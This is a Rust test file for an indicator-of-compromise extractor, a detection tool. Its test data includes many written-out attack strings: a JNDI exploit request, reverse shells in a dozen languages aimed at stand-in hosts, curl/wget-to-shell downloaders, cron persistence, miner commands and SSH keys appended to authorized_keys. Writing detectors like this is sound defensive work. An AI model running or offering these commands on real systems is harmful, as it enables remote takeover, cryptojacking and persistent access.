//! Table tests of the indicator extractor: real-world shapes of requests, reverse shells,
//! downloads, miners, wallets, SSH keys and binaries' strings, and what is no indicator.

use super::*;

fn vals(refs: &[IocRef]) -> Vec<String> {
    refs.iter().map(|r| format!("{}:{}:{}", r.kind, r.value, r.role)).collect()
}

/// Every `want` is among the indicators of `text` read as `source`; no `not` is.
fn check(source: Source, text: &str, want: &[&str], not: &[&str]) {
    let v = vals(&from_text(text, source));
    for w in want {
        assert!(v.iter().any(|x| x == w), "{w} not in {v:?} of {text:?}");
    }
    for n in not {
        assert!(!v.iter().any(|x| x.contains(n)), "{n} in {v:?} of {text:?}");
    }
}

const XMR: &str =
    "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD";
const ED25519: &str = "AAAAC3NzaC1lZDI1NTE5AAAAIHq4mJ0c7cW0rYqkZ9mXk3p1Vb8u2sTnQe5yL6fD0aRg";
const RSA: &str = "AAAAB3NzaC1yc2EAAAADAQABAAABAQDQSBGOZulVp0uKwnsps/VRoXbGRxQ1j8NN6rTeS3XGzgLfYqXMDf7oMX2S+5pA6H8U/eMeRmvJzxYIeeXZY7nORu7mWY6TIZtlEN8ojXujlSaCGNnQwYMyhxYqsZ4s0FN7ST2hG50sqDZnEsO3nik1Z8SiYkJDKqLOhs/NegGTpDCQ6cVjr9mQp4BJg1q008kP4xKcvRgldp1MbMIdd2hp9rZOFTdFgMT2pasYWnPkg8P1jJcQhwvNWApgKSvI42khVT5wh6OQqWB+/MjgzbSB8at/pAWBY6BZEY18WKhXXdA9EYvEyDdoUvegYnvCBi2EtK7qevOOmybka7QmUEx7";
const ECDSA: &str = "AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBGWqLnSeoA2l2zQ34lPJ61FeMkq/njRDSnGomFNkslI5qRQk0Dmr3dTwFXxtK+gFWyPz4+f7HhPk+vLBhA9xSfQ=";

#[test]
fn access_log_line_with_jndi() {
    let raw = br#"203.0.113.7 - - [27/Nov/2026:14:00:00 +0000] "GET /?x=${jndi:ldap://evil.example:1389/a} HTTP/1.1" 200 5 "-" "Mozilla/5.0 Chrome/97.0.4692.71""#;
    let text = std::str::from_utf8(raw).unwrap();
    let j = super::super::jndi::evaluate(text).jndi.into_iter().next();
    let v = vals(&extract(raw, text, j.as_ref(), &[]));
    for want in [
        "ip:203.0.113.7:request-source",
        "domain:evil.example:callback",
        "port:1389:callback",
        "endpoint:evil.example:1389:callback",
        "url:ldap://evil.example:1389/a:callback",
    ] {
        assert!(v.contains(&want.to_string()), "{want} not in {v:?}");
    }
    assert!(!v.iter().any(|s| s.contains("97.0.4692")), "{v:?}");
    // The client's own address is listed once, as the request's source.
    assert_eq!(v.iter().filter(|s| s.contains("203.0.113.7")).count(), 1, "{v:?}");
}

#[test]
fn exfiltration_labels_leave_the_domain() {
    let t = "${jndi:ldap://${sys:java.version}.cb.example/a}";
    let j = super::super::jndi::evaluate(t).jndi.into_iter().next();
    let v = vals(&extract(t.as_bytes(), t, j.as_ref(), &[]));
    assert!(v.contains(&"domain:cb.example:callback".to_string()), "{v:?}");
}

#[test]
fn decoded_commands_of_a_record_connect() {
    // A JNDIExploit path's command: a bare ip:port there is where it connects.
    let v = vals(&extract(b"x", "x", None, &["/tmp/agent 203.0.113.66:8443 &".to_string()]));
    assert!(v.contains(&"endpoint:203.0.113.66:8443:callback".to_string()), "{v:?}");
    // In the record itself an ip:port is a client's or a listener's: no endpoint.
    let rec = "Accepted connection from 10.1.2.3:53422 on 0.0.0.0:8080";
    assert!(!vals(&extract(rec.as_bytes(), rec, None, &[])).iter().any(|s| s.starts_with("endpoint")));
}

#[test]
fn reverse_shells_give_callbacks() {
    let c = Source::Command;
    for (text, host, port) in [
        ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "10.0.0.1", "4242"),
        (
            "sh -c 'exec 5<>/dev/tcp/evil.example/80;cat <&5 | while read line; do $line 2>&5 >&5; done'",
            "evil.example",
            "80",
        ),
        ("nc -e /bin/sh 192.0.2.1 4444", "192.0.2.1", "4444"),
        ("nc 192.0.2.1 4444 -e /bin/bash", "192.0.2.1", "4444"),
        ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.9 1234 >/tmp/f", "10.0.0.9", "1234"),
        ("busybox nc c2.evil.example 443 -e sh", "c2.evil.example", "443"),
        ("ncat --exec /bin/bash -w 3 198.51.100.4 9001", "198.51.100.4", "9001"),
        ("/usr/bin/nc.traditional -nv 203.0.113.8 8080 -c bash", "203.0.113.8", "8080"),
        ("telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445", "10.0.0.1", "4444"),
        ("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242", "10.0.0.1", "4242"),
        ("socat OPENSSL:c2.example.net:443,verify=0 EXEC:/bin/sh", "c2.example.net", "443"),
        ("awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) { print |& s }}'", "10.0.0.1", "4242"),
        (
            r#"python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));pty.spawn("sh")'"#,
            "10.0.0.1",
            "4242",
        ),
        (
            r#"php -r '$sock=fsockopen("evil.example",80);exec("/bin/sh -i <&3 >&3 2>&3");'"#,
            "evil.example",
            "80",
        ),
        (
            r#"ruby -rsocket -e 'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'"#,
            "10.0.0.1",
            "4242",
        ),
        (
            r#"perl -MIO -e '$c=new IO::Socket::INET(PeerAddr=>"10.0.0.1:4242");STDIN->fdopen($c,r)'"#,
            "10.0.0.1",
            "4242",
        ),
        (r#"Socket s = new Socket("203.0.113.5", 7777);"#, "203.0.113.5", "7777"),
    ] {
        let kind = if host.starts_with(|c: char| c.is_ascii_digit()) { "ip" } else { "domain" };
        check(
            c,
            text,
            &[&format!("{kind}:{host}:callback"), &format!("endpoint:{host}:{port}:callback")],
            &[],
        );
    }
    // Listeners and tools without a remote are no callback.
    for text in [
        "nc -lvnp 4444",
        "nc -l -p 4444 -e /bin/sh",
        "ncat --listen 0.0.0.0 4444",
        "socat TCP-LISTEN:4444,fork EXEC:sh",
    ] {
        check(c, text, &[], &["endpoint:", "callback"]);
    }
}

#[test]
fn downloads_name_payload_servers() {
    let c = Source::Command;
    check(
        c,
        "*/15 * * * * root (wget -q -O - http://203.0.113.66:8000/m.sh || curl -fsSL http://203.0.113.66:8000/m.sh) | sh >/dev/null 2>&1",
        &[
            "url:http://203.0.113.66:8000/m.sh:payload-server",
            "endpoint:203.0.113.66:8000:payload-server",
            "ip:203.0.113.66:payload-server",
        ],
        &["mentioned", "domain:"],
    );
    check(c, "wget -q -O- 203.0.113.5/k.sh|sh", &["ip:203.0.113.5:payload-server"], &["mentioned"]);
    check(
        c,
        "curl -s evil.example:8080/a.sh|bash",
        &["domain:evil.example:payload-server", "endpoint:evil.example:8080:payload-server"],
        &[],
    );
    check(c, "tftp -g -r mips 198.51.100.9", &["ip:198.51.100.9:payload-server"], &[]);
    check(
        c,
        "curl -o /tmp/x.sh https://cdn.evil.example/x.sh",
        &["url:https://cdn.evil.example/x.sh:payload-server"],
        &["mining-pool", "domain:x.sh"],
    );
    // Option values are no targets: a file name that looks like a name, a user agent.
    check(c, "wget -O m.sh -U Wget/1.2 http://203.0.113.66/m.sh", &[], &["domain:m.sh", "Wget"]);
    // `+` is a space in a query string.
    let t = "GET /setup.cgi?cmd=rm+-rf+/tmp/*;wget+http://192.168.1.1:8088/Mozi.m+-O+/tmp/netgear;sh+netgear";
    let v = vals(&extract(t.as_bytes(), t, None, &[]));
    assert!(v.contains(&"url:http://192.168.1.1:8088/Mozi.m:payload-server".to_string()), "{v:?}");
}

#[test]
fn miners_give_pools_and_wallets() {
    let c = Source::Command;
    check(
        c,
        &format!("/tmp/kdevtmpfsi -o stratum+tcp://xmr.pool-minexmr.example:4444 -u {XMR} -p x -k --donate-level 1"),
        &[
            "url:stratum+tcp://xmr.pool-minexmr.example:4444:mining-pool",
            "endpoint:xmr.pool-minexmr.example:4444:mining-pool",
            "domain:xmr.pool-minexmr.example:mining-pool",
            &format!("wallet:{XMR}:wallet"),
        ],
        &[],
    );
    // A renamed miner: the pool is in its `-o host:port`, no scheme.
    check(
        c,
        &format!("[kworker/0:1] -o pool.supportxmr.example:443 -u {XMR}.rig01 -p x --tls"),
        &["endpoint:pool.supportxmr.example:443:mining-pool", &format!("wallet:{XMR}:wallet")],
        &[],
    );
    check(
        c,
        "./systemd-log --url=198.51.100.77:3333 --user x -a rx/0",
        &["endpoint:198.51.100.77:3333:mining-pool"],
        &["callback"],
    );
    check(
        c,
        "/dev/shm/.m --url pool.hashvault.example:80 --user W --pass x",
        &["endpoint:pool.hashvault.example:80:mining-pool"],
        &[],
    );
    check(
        c,
        "minerd -a cryptonight -o stratum+tcp://198.51.100.20:3333 -u w -p x",
        &["endpoint:198.51.100.20:3333:mining-pool", "ip:198.51.100.20:mining-pool"],
        &["callback"],
    );
    // An XMRig configuration file.
    check(
        c,
        "{\"donate-level\": 1, \"pools\": [\n  {\"url\": \"gulf.moneroocean.example:10128\", \"user\": \"x\"}]}",
        &["endpoint:gulf.moneroocean.example:10128:mining-pool"],
        &[],
    );
    // `-o` of other tools is no pool.
    for text in [
        "curl -o out.txt http://198.51.100.1/x",
        "ssh -o ServerAliveInterval=60 db.internal.example",
        "kubectl get pods -o json",
    ] {
        check(c, text, &[], &["mining-pool"]);
    }
}

#[test]
fn wallets_by_shape_and_checksum() {
    let c = Source::Command;
    // Bitcoin and Ethereum next to miner words only; a base58 address with a bad checksum never.
    check(
        c,
        "./cpuminer -a sha256d -o stratum+tcp://198.51.100.2:3333 -u 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2",
        &["wallet:1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2:wallet"],
        &[],
    );
    check(
        c,
        "wallet=bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq miner",
        &["wallet:bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq:wallet"],
        &[],
    );
    check(
        c,
        "ethminer -P stratum://0x52908400098527886E0F7030069857D2E4169EE7.rig@eth.pool.example:4444",
        &["wallet:0x52908400098527886E0F7030069857D2E4169EE7:wallet"],
        &[],
    );
    check(c, "echo 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2", &[], &["wallet"]);
    check(c, "-u 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3 --donate-level 1", &[], &["wallet"]);
    // A Monero address is one by its shape alone; a longer base58 run is not one.
    check(Source::Binary, XMR, &[&format!("wallet:{XMR}:wallet")], &[]);
    check(c, &format!("{XMR}xyz"), &[], &["wallet"]);
}

#[test]
fn ssh_keys_give_their_fingerprint_and_comment() {
    let c = Source::Command;
    let kali = "ssh-key:SHA256:RBjn6dqGBV5JQPdMD3IFdawQImBJoHZApwkSDzAcZXE kali@kali:ssh-key";
    check(c, &format!("ssh-ed25519 {ED25519} kali@kali\n"), &[kali], &[]);
    check(c, &format!("no-pty,command=\"/bin/true\" ssh-ed25519 {ED25519} kali@kali"), &[kali], &[]);
    check(
        c,
        &format!("echo \"ssh-ed25519 {ED25519} kali@kali\" >> /root/.ssh/authorized_keys"),
        &[kali],
        &[],
    );
    check(c, &format!("printf 'ssh-ed25519 {ED25519} kali@kali\\n' > ~/.ssh/authorized_keys"), &[kali], &[]);
    check(
        c,
        &format!("ssh-rsa {RSA} root@attacker box"),
        &["ssh-key:SHA256:GtjAavItP9Esd2e25d7lKWs3oXe/LwbgDsmNX1dhGCc root@attacker box:ssh-key"],
        &[],
    );
    check(
        c,
        &format!("ecdsa-sha2-nistp256 {ECDSA}"),
        &["ssh-key:SHA256:K8fBWbx8Gecg28uN6tjiUiaz4hKWNp4KLLyifLtor64:ssh-key"],
        &[],
    );
    // A blob of another type, or no key at all.
    check(c, &format!("ssh-rsa {ED25519} x@y"), &[], &["ssh-key"]);
    check(c, "ssh-ed25519 AAAAnotbase64!!! x@y", &[], &["ssh-key"]);
}

#[test]
fn binaries_give_only_unmistakable_shapes() {
    let b = Source::Binary;
    check(b, "agent\n203.0.113.66:8443\n/proc/self/exe\nmtls", &["endpoint:203.0.113.66:8443:callback"], &[]);
    check(
        b,
        "XMRig 6.21.0\nstratum+tcp://xmr.pool-minexmr.example:4444",
        &["endpoint:xmr.pool-minexmr.example:4444:mining-pool"],
        &[],
    );
    check(b, "http://198.51.100.3/bins/x86", &["url:http://198.51.100.3/bins/x86:payload-server"], &[]);
    // Every binary quotes its project's site and version numbers: no indicator.
    check(
        b,
        "Report bugs to https://www.gnu.org/software/coreutils/\n1.2.3.4\nGLIBC_2.2.5",
        &[],
        &["gnu.org", "1.2.3.4"],
    );
}

#[test]
fn what_is_no_indicator() {
    let c = Source::Command;
    check(c, "version 1.2.3.4.5 and 999.1.1.1", &[], &["ip:"]);
    check(c, "listening on 0.0.0.0:8080", &[], &["0.0.0.0"]);
    // A bare address in a command is only mentioned; with a role elsewhere, it has that role.
    check(c, "ping -c 4 198.51.100.9", &["ip:198.51.100.9:mentioned"], &[]);
    check(
        c,
        "ping 10.0.0.1; bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        &["ip:10.0.0.1:callback"],
        &["mentioned"],
    );
    // base64-wrapped commands are read too.
    check(
        c,
        "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNjYvNDQ0NCAwPiYx}|{base64,-d}|{bash,-i}",
        &["endpoint:203.0.113.66:4444:callback"],
        &[],
    );
}

#[test]
fn hosts_are_normalised() {
    assert_eq!(normal_host("[::ffff:203.0.113.9]"), Some((IocKind::Ip, "203.0.113.9".into())));
    assert_eq!(normal_host("Evil.Example."), Some((IocKind::Domain, "evil.example".into())));
    assert_eq!(normal_host("2001:db8::1"), Some((IocKind::Ip, "2001:db8::1".into())));
    assert_eq!(normal_host("m.s4"), None);
    assert_eq!(endpoint_value("2001:db8::1", 443), "[2001:db8::1]:443");
}

#[test]
fn urls_in_records_are_downloads_only_after_a_download() {
    let rec = r#"203.0.113.7 - - [27/Nov/2026:14:00:00 +0000] "GET /?ip=1;curl -s http://198.51.100.23/x.sh|sh HTTP/1.1" 302 5 "http://192.0.2.50:81/login.php" "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)""#;
    let v = vals(&extract(rec.as_bytes(), rec, None, &[]));
    assert!(v.contains(&"url:http://198.51.100.23/x.sh:payload-server".to_string()), "{v:?}");
    assert!(v.contains(&"url:http://192.0.2.50:81/login.php:mentioned".to_string()), "{v:?}");
    assert!(v.contains(&"domain:www.baidu.com:mentioned".to_string()), "{v:?}");
    // wget's own progress line is a download.
    let rec = "--2026-11-27 14:11:40--  http://203.0.113.66:8000/kdevtmpfsi";
    let v = vals(&extract(rec.as_bytes(), rec, None, &[]));
    assert!(v.contains(&"endpoint:203.0.113.66:8000:payload-server".to_string()), "{v:?}");
}
